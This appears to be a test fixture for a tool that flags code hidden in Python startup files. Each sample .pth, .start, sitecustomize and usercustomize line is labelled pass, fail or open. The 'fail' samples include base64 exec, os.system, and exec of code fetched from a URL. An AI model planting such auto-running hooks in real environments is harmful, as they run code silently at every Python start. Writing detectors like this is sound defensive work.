# file: hidden.pth
../src  # pass: the line adds a directory and runs nothing
import base64; exec(base64.b64decode("cHJpbnQoMSk="))  # fail: hidden
import os; os.system("id")  # fail: hidden
import urllib.request as u; exec(u.urlopen("http://example.com/x").read())  # fail: hidden
import subprocess,sys;subprocess.Popen([sys.executable, "-c", "print(1)"])  # fail: hidden
/tmp  # fail: shared
# file: plain.pth
/opt/own/lib  # pass: the line adds a directory and runs nothing
import own_finder; own_finder.install()  # open: code
import os; os.environ.get("OWN") and __import__("own").enable()  # open: code
importlib_resources  # pass: the line adds a directory and runs nothing
# file: replaced.pth
# python: 3.15
import own; own.install()  # pass: a .start file of the same name takes the place of the import lines
# file: replaced.start
# python: 3.15
own.startup:install  # open: entryPoint
not an entry point  # nothing: no function is named
# file: early.start
# python: 3.9-3.14
own.startup:install  # nothing: these Pythons read no such files
# file: site/sitecustomize.py
import sys  # open: module

sys.setrecursionlimit(5000)
# file: home/usercustomize.py
import urllib.request  # fail: hidden

exec(urllib.request.urlopen("http://example.com/settings.py").read())
# file: lib/sitecustomize.py
import ctypes  # fail: hidden

ctypes.CDLL("/opt/own/tracer.so")
